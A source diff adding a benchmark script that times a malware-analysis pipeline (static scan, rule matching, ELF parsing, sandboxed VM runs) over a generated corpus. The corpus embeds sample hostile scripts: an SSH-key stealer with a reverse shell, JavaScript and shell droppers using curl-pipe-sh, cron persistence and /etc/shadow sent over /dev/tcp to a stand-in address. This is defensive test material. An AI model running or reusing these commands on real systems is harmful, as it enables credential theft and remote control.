@@ -0,0 +1,442 @@
+#!/usr/bin/env python3
+"""
+Benchmarks - latency and throughput of the analysis pipeline
+
+Runs the pipeline stages over a fixed corpus and appends one JSON line
+per benchmark to bench_output.txt, so runs on the same box can be
+compared over time (--compare flags stages that got slower).
+
+The corpus is generated from a seed instead of shipped: scripts
+(benign, stealer, dropper), small x64 and arm64 ELFs with suspicious
+imports and strings, and a large arm64 ELF with a packed high-entropy
+.text. Its digest is recorded with every line; results are only
+compared between runs of the same corpus, host and machine.
+
+Benchmarks: static (StaticAnalyzer.run, VirusTotal off, result cache
+bypassed), rules (RuleEngine.match_script), elf (ELFAnalyzer.analyze)
+and, with --vm, copy_to_guest, restore (clean-state reset of a clone)
+and dynamic (full DynamicAnalyzer.run). The dynamic line also carries
+per-stage p50/p99 from the metrics spans.
+
+Every run is compared with the previous one of the same corpus and host;
+the exit status is 1 when a benchmark's p50 grew by more than --tolerance.
+
+Usage:
+    python3 bench.py [--iterations 5] [--scale 1] [--only static,rules] [--vm]
+    python3 bench.py --compare          # last run vs the previous comparable one
+"""
+
+import os
+import sys
+import json
+import time
+import uuid
+import random
+import shutil
+import struct
+import hashlib
+import argparse
+import platform
+import tempfile
+import subprocess
+from typing import Callable, Dict, List, Optional, Tuple
+
+try:
+    import yaml
+except ImportError:
+    yaml = None
+
+ROOT = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, ROOT)
+
+import metrics
+from sample import describe
+
+DEFAULT_OUTPUT = os.path.join(ROOT, 'bench_output.txt')
+DEFAULT_SEED = 20240601
+SCHEMA = 1
+
+ELF_MACHINES = {'x64': 62, 'arm64': 183}
+
+PYTHON_STEALER = '''import os, socket, subprocess, base64
+import requests
+
+def grab():
+    data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    token = base64.b64encode(data.encode())
+    requests.post("http://203.0.113.7/upload", data=token)
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.7", 4444))
+    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())
+'''
+
+PYTHON_BENIGN = '''import json
+
+def total(values):
+    return sum(v * 2 for v in values if v > 0)
+
+print(json.dumps({"total": total(range(100))}))
+'''
+
+JS_DROPPER = '''const { exec } = require("child_process");
+const fs = require("fs");
+const https = require("https");
+https.get("https://203.0.113.7/p.sh", r => r.pipe(fs.createWriteStream("/tmp/.p")));
+exec("chmod +x /tmp/.p && /tmp/.p");
+eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());
+'''
+
+SHELL_DROPPER = '''#!/bin/sh
+curl -s http://203.0.113.7/x | sh
+wget -q -O /tmp/.x http://203.0.113.7/x && chmod +x /tmp/.x
+(crontab -l; echo "* * * * * /tmp/.x") | crontab -
+cat /etc/shadow > /dev/tcp/203.0.113.7/4444
+'''
+
+ELF_IMPORTS = [b'socket', b'connect', b'execve', b'ptrace', b'fork', b'setsid', b'printf', b'malloc']
+ELF_STRINGS = [b'/etc/shadow', b'/bin/sh', b'203.0.113.7', b'wget http://203.0.113.7/x', b'.ssh/authorized_keys']
+
+
+def build_elf(machine: int, text: bytes, data: bytes = b'', imports: List[bytes] = ()) -> bytes:
+    """
+    Minimal 64-bit little-endian ELF with .text, .data, .dynstr and
+    .shstrtab sections (enough for pyelftools and the type sniffer).
+    """
+    sections = [(b'.text', 1, text), (b'.data', 1, data), (b'.dynstr', 3, b'\x00' + b'\x00'.join(imports) + b'\x00')]
+    shstrtab = b'\x00'
+    names = []
+    for name, _, _ in sections + [(b'.shstrtab', 3, b'')]:
+        names.append(len(shstrtab))
+        shstrtab += name + b'\x00'
+    sections.append((b'.shstrtab', 3, shstrtab))
+    
+    body = b''
+    offsets = []
+    offset = 64
+    for _, _, content in sections:
+        offsets.append(offset)
+        body += content
+        offset += len(content)
+    pad = (-offset) % 8
+    body += b'\x00' * pad
+    shoff = offset + pad
+    
+    header = b'\x7fELF' + bytes([2, 1, 1]) + b'\x00' * 9
+    header += struct.pack('<HHIQQQIHHHHHH', 2, machine, 1, 0x400000, 0, shoff, 0,
+                          64, 56, 0, 64, len(sections) + 1, len(sections))
+    table = b'\x00' * 64
+    for (_, kind, content), name, off in zip(sections, names, offsets):
+        table += struct.pack('<IIQQQQIIQQ', name, kind, 0, 0, off, len(content), 0, 0, 1, 0)
+    return header + body + table
+
+
+def _scaled(text: str, size: int) -> str:
+    """Repeat a script body with numbered filler until it is about size bytes"""
+    lines = [text]
+    n = 0
+    while sum(map(len, lines)) < size:
+        lines.append(f"# filler {n}: value_{n} = {n * 7919 % 1000}\n")
+        n += 1
+    return ''.join(lines)
+
+
+def build_corpus(path: str, seed: int = DEFAULT_SEED, scale: float = 1.0) -> Dict:
+    """
+    Write the benchmark corpus into path.
+    
+    Args:
+        path: Directory (created)
+        seed: Random seed of the binary contents
+        scale: Size multiplier (the packed ELF is 4 MB at scale 1)
+    
+    Returns:
+        {'seed', 'scale', 'digest', 'files': [{'name', 'kind', 'size', 'path'}]}
+    """
+    rng = random.Random(seed)
+    os.makedirs(path, exist_ok=True)
+    script_size = max(512, int(64 * 1024 * scale))
+    files = [
+        ('benign.py', 'script', _scaled(PYTHON_BENIGN, script_size // 16).encode()),
+        ('stealer.py', 'script', _scaled(PYTHON_STEALER, script_size).encode()),
+        ('dropper.js', 'script', _scaled(JS_DROPPER, script_size).encode()),
+        ('dropper.sh', 'script', _scaled(SHELL_DROPPER, script_size // 4).encode()),
+    ]
+    code = bytes(rng.choice(b'\x48\x89\xe5\x31\xc0\xc3\x90\x0f\x05') for _ in range(max(4096, int(48 * 1024 * scale))))
+    strings = b'\x00'.join(ELF_STRINGS) + b'\x00'
+    for arch, machine in ELF_MACHINES.items():
+        files.append((f'tool_{arch}.elf', 'elf', build_elf(machine, code, strings, ELF_IMPORTS)))
+    packed = rng.randbytes(max(64 * 1024, int(4 * 1024 * 1024 * scale)))
+    files.append(('packed_arm64.elf', 'elf', build_elf(183, b'UPX!' + packed, strings, ELF_IMPORTS[:3])))
+    
+    digest = hashlib.sha256()
+    corpus = []
+    for name, kind, data in files:
+        file_path = os.path.join(path, name)
+        with open(file_path, 'wb') as f:
+            f.write(data)
+        digest.update(name.encode() + b'\x00' + hashlib.sha256(data).digest())
+        corpus.append({'name': name, 'kind': kind, 'size': len(data), 'path': file_path})
+    return {'seed': seed, 'scale': scale, 'digest': digest.hexdigest()[:16], 'files': corpus}
+
+
+def _percentile(sorted_values: List[float], q: float) -> float:
+    if not sorted_values:
+        return 0.0
+    index = min(len(sorted_values) - 1, max(0, int(round(q * (len(sorted_values) - 1)))))
+    return sorted_values[index]
+
+
+def measure(files: List[Dict], op: Callable[[Dict], None], iterations: int) -> Dict:
+    """
+    Run op over every file `iterations` times after one warm-up pass.
+    
+    Returns:
+        Latency percentiles per op (ms) and throughput
+    """
+    for f in files:
+        op(f)
+    latencies = []
+    total_bytes = 0
+    start = time.perf_counter()
+    for _ in range(iterations):
+        for f in files:
+            t0 = time.perf_counter()
+            op(f)
+            latencies.append(time.perf_counter() - t0)
+            total_bytes += f['size']
+    elapsed = time.perf_counter() - start
+    latencies.sort()
+    return {
+        'ops': len(latencies),
+        'iterations': iterations,
+        'mean_ms': round(1000 * sum(latencies) / len(latencies), 3),
+        'p50_ms': round(1000 * _percentile(latencies, 0.5), 3),
+        'p95_ms': round(1000 * _percentile(latencies, 0.95), 3),
+        'p99_ms': round(1000 * _percentile(latencies, 0.99), 3),
+        'max_ms': round(1000 * latencies[-1], 3),
+        'ops_per_s': round(len(latencies) / elapsed, 2) if elapsed else 0.0,
+        'mb_per_s': round(total_bytes / elapsed / (1 << 20), 2) if elapsed else 0.0,
+    }
+
+
+def _static_config(config_path: Optional[str], workdir: str) -> str:
+    """config.yaml with caches moved to workdir and VirusTotal off"""
+    cfg = {}
+    if config_path and yaml and os.path.exists(config_path):
+        with open(config_path) as f:
+            cfg = yaml.safe_load(f) or {}
+    static = dict(cfg.get('static') or {})
+    static.setdefault('yara_rules_dir', os.path.join(ROOT, 'yara_rules'))
+    static.update({
+        'yara_cache_dir': os.path.join(workdir, 'yara_cache'),
+        'result_cache_db': os.path.join(workdir, 'result_cache.db'),
+        'virustotal_cache_db': os.path.join(workdir, 'vt_cache.db'),
+        'virustotal_enabled': False,
+    })
+    path = os.path.join(workdir, 'config.yaml')
+    with open(path, 'w') as f:
+        yaml.safe_dump({'static': static}, f)
+    return path
+
+
+def bench_static(corpus: Dict, args, workdir: str) -> Dict:
+    from static import StaticAnalyzer
+    analyzer = StaticAnalyzer(config_path=_static_config(args.config, workdir))
+    result = measure(corpus['files'], lambda f: analyzer.run(f['path'], use_cache=False), args.iterations)
+    result['engines'] = {'yara': analyzer.yara.available, 'clamav': analyzer.clamav.engine}
+    return result
+
+
+def bench_rules(corpus: Dict, args, workdir: str) -> Dict:
+    from dynamic import RuleEngine
+    engine = RuleEngine(os.path.join(ROOT, 'patterns.yaml'))
+    scripts = []
+    for f in corpus['files']:
+        if f['kind'] == 'script':
+            with open(f['path'], errors='ignore') as fh:
+                scripts.append(dict(f, code=fh.read(), language=describe(f['path']).file_type))
+    return measure(scripts, lambda f: engine.match_script(f['language'], f['code']), args.iterations)
+
+
+def bench_elf(corpus: Dict, args, workdir: str) -> Dict:
+    from dynamic import ELFAnalyzer
+    analyzer = ELFAnalyzer()
+    elves = [f for f in corpus['files'] if f['kind'] == 'elf']
+    result = measure(elves, lambda f: analyzer.analyze(f['path']), args.iterations)
+    result['engines'] = {'pyelftools': analyzer.available}
+    return result
+
+
+def bench_vm(corpus: Dict, args, workdir: str) -> Dict[str, Dict]:
+    """copy_to_guest, restore and dynamic on the first clone of the native pool"""
+    from dynamic import DynamicAnalyzer
+    from vm_manager.vm_config import VMArchitecture
+    analyzer = DynamicAnalyzer(timeout=args.vm_timeout, db_path=os.path.join(workdir, 'analysis.db'),
+                               yara_dir=os.path.join(ROOT, 'yara_rules'),
+                               patterns_file=os.path.join(ROOT, 'patterns.yaml'),
+                               vm_config_path=args.vm_config, early_stop=False,
+                               cache_path=os.path.join(workdir, 'result_cache.db'))
+    names = ('copy_to_guest', 'restore', 'dynamic')
+    manager = analyzer._vm_manager
+    if not analyzer.vm_available:
+        return {name: {'skipped': 'VM manager not available'} for name in names}
+    
+    arch = VMArchitecture.ARM64 if manager.get_pool(VMArchitecture.ARM64) else VMArchitecture.X64
+    try:
+        if not manager.start_vm(arch):
+            return {name: {'skipped': f'{arch.value} VM did not start'} for name in names}
+        pool = manager.get_pool(arch)
+        slot = pool.slots[0]
+        results = {}
+        # Held so that nothing else uses the clone between resets
+        if not pool.try_acquire(slot):
+            return {name: {'skipped': f'{slot.name} busy'} for name in names}
+        try:
+            shas = {f['path']: describe(f['path']).sha256 for f in corpus['files']}
+            results['copy_to_guest'] = measure(
+                corpus['files'],
+                lambda f: manager.copy_to_guest(arch, f['path'], f"/tmp/bench_{f['name']}",
+                                                vm_name=slot.name, sha256=shas[f['path']]),
+                args.iterations)
+            results['restore'] = measure([{'size': 0}], lambda f: manager._reset_clone(arch, slot),
+                                         args.iterations)
+            results['restore']['disk_mode'] = slot.config.disk_mode
+        finally:
+            pool.release(slot, job_done=False)
+        
+        results['dynamic'] = measure(corpus['files'], lambda f: analyzer.run(f['path'], use_cache=False),
+                                     args.iterations)
+        results['dynamic']['stages'] = {
+            labels['stage']: {
+                'count': metrics.STAGE_SECONDS.count(**labels),
+                'p50_ms': round(1000 * metrics.STAGE_SECONDS.quantile(0.5, **labels), 3),
+                'p99_ms': round(1000 * metrics.STAGE_SECONDS.quantile(0.99, **labels), 3),
+            }
+            for labels in metrics.STAGE_SECONDS.labels()
+        }
+        return results
+    finally:
+        manager.wait_for_reverts(60)
+        manager.stop_all()
+
+
+BENCHMARKS = {'static': bench_static, 'rules': bench_rules, 'elf': bench_elf}
+
+
+def host_info() -> Dict:
+    info = {'machine': platform.machine(), 'platform': platform.platform(),
+            'python': platform.python_version(), 'cpus': os.cpu_count()}
+    try:
+        with open('/proc/device-tree/model', 'rb') as f:
+            info['model'] = f.read().rstrip(b'\x00').decode(errors='ignore')
+    except OSError:
+        info['model'] = platform.node()
+    try:
+        info['commit'] = subprocess.run(['git', 'rev-parse', '--short', 'HEAD'], cwd=ROOT, capture_output=True,
+                                        text=True, timeout=5).stdout.strip() or None
+    except (OSError, subprocess.SubprocessError):
+        info['commit'] = None
+    return info
+
+
+def run(args) -> List[Dict]:
+    """Run the selected benchmarks and return their result lines"""
+    workdir = tempfile.mkdtemp(prefix='bench_')
+    try:
+        corpus = build_corpus(os.path.join(workdir, 'corpus'), args.seed, args.scale)
+        common = {'schema': SCHEMA, 'run': uuid.uuid4().hex[:12],
+                  'ts': time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime()),
+                  'host': host_info(), 'corpus': corpus['digest']}
+        selected = args.only.split(',') if args.only else list(BENCHMARKS)
+        results: Dict[str, Dict] = {}
+        for name in selected:
+            if name in BENCHMARKS:
+                results[name] = BENCHMARKS[name](corpus, args, workdir)
+            elif name not in ('copy_to_guest', 'restore', 'dynamic'):
+                raise SystemExit(f"Unknown benchmark: {name}")
+        if args.vm:
+            results.update(bench_vm(corpus, args, workdir))
+        return [dict(common, bench=name, **result) for name, result in results.items()]
+    finally:
+        shutil.rmtree(workdir, ignore_errors=True)
+
+
+def load_runs(path: str) -> List[List[Dict]]:
+    """Result lines of an output file grouped by run, oldest first"""
+    runs: Dict[str, List[Dict]] = {}
+    if os.path.exists(path):
+        with open(path) as f:
+            for line in f:
+                try:
+                    row = json.loads(line)
+                except ValueError:
+                    continue
+                runs.setdefault(row.get('run'), []).append(row)
+    return list(runs.values())
+
+
+def compare(runs: List[List[Dict]], tolerance: float) -> Tuple[List[str], bool]:
+    """
+    Compare the last run with the newest earlier run of the same corpus and host.
+    
+    Returns:
+        (report lines, True if a benchmark's p50 grew by more than tolerance)
+    """
+    if not runs:
+        return ["no runs recorded"], False
+    latest = runs[-1]
+    key = lambda run: (run[0]['corpus'], run[0]['host'].get('model'), run[0]['host'].get('machine'))
+    earlier = [r for r in runs[:-1] if key(r) == key(latest)]
+    if not earlier:
+        return ["no earlier run of this corpus on this host"], False
+    base = {row['bench']: row for row in earlier[-1] if 'p50_ms' in row}
+    lines, regressed = [], False
+    for row in latest:
+        old = base.get(row['bench'])
+        if 'p50_ms' not in row or not old or not old['p50_ms']:
+            continue
+        ratio = row['p50_ms'] / old['p50_ms']
+        mark = ''
+        if ratio > 1 + tolerance:
+            mark, regressed = '  REGRESSION', True
+        lines.append(f"{row['bench']:<14} p50 {old['p50_ms']:>10.3f} -> {row['p50_ms']:>10.3f} ms "
+                     f"({ratio:.2f}x){mark}")
+    return lines, regressed
+
+
+def main(argv: Optional[List[str]] = None) -> int:
+    parser = argparse.ArgumentParser(description="Benchmark the analysis pipeline on a fixed corpus")
+    parser.add_argument('--out', default=DEFAULT_OUTPUT, help="JSON lines file results are appended to")
+    parser.add_argument('--iterations', type=int, default=5, help="timed passes over the corpus")
+    parser.add_argument('--scale', type=float, default=1.0, help="corpus size multiplier")
+    parser.add_argument('--seed', type=int, default=DEFAULT_SEED)
+    parser.add_argument('--only', help="comma-separated benchmarks (static,rules,elf)")
+    parser.add_argument('--config', default=os.path.join(ROOT, 'config.yaml'))
+    parser.add_argument('--vm', action='store_true', help="also run copy_to_guest, restore and dynamic")
+    parser.add_argument('--vm-config', default=os.path.join(ROOT, 'vm_config.yaml'))
+    parser.add_argument('--vm-timeout', type=int, default=10, help="seconds each sample runs in the VM")
+    parser.add_argument('--compare', action='store_true', help="only compare the last two comparable runs")
+    parser.add_argument('--tolerance', type=float, default=0.2, help="p50 growth counted as a regression")
+    args = parser.parse_args(argv)
+    
+    if not args.compare:
+        rows = run(args)
+        with open(args.out, 'a') as f:
+            for row in rows:
+                f.write(json.dumps(row, sort_keys=True) + '\n')
+        for row in rows:
+            if 'skipped' in row:
+                print(f"{row['bench']:<14} skipped: {row['skipped']}")
+            else:
+                print(f"{row['bench']:<14} p50 {row['p50_ms']:>10.3f} ms  p99 {row['p99_ms']:>10.3f} ms  "
+                      f"{row['ops_per_s']:>8.2f} ops/s  {row['mb_per_s']:>8.2f} MB/s")
+        print(f"corpus={rows[0]['corpus'] if rows else '-'} -> {args.out}")
+    
+    lines, regressed = compare(load_runs(args.out), args.tolerance)
+    for line in lines:
+        print(line)
+    return 1 if regressed else 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())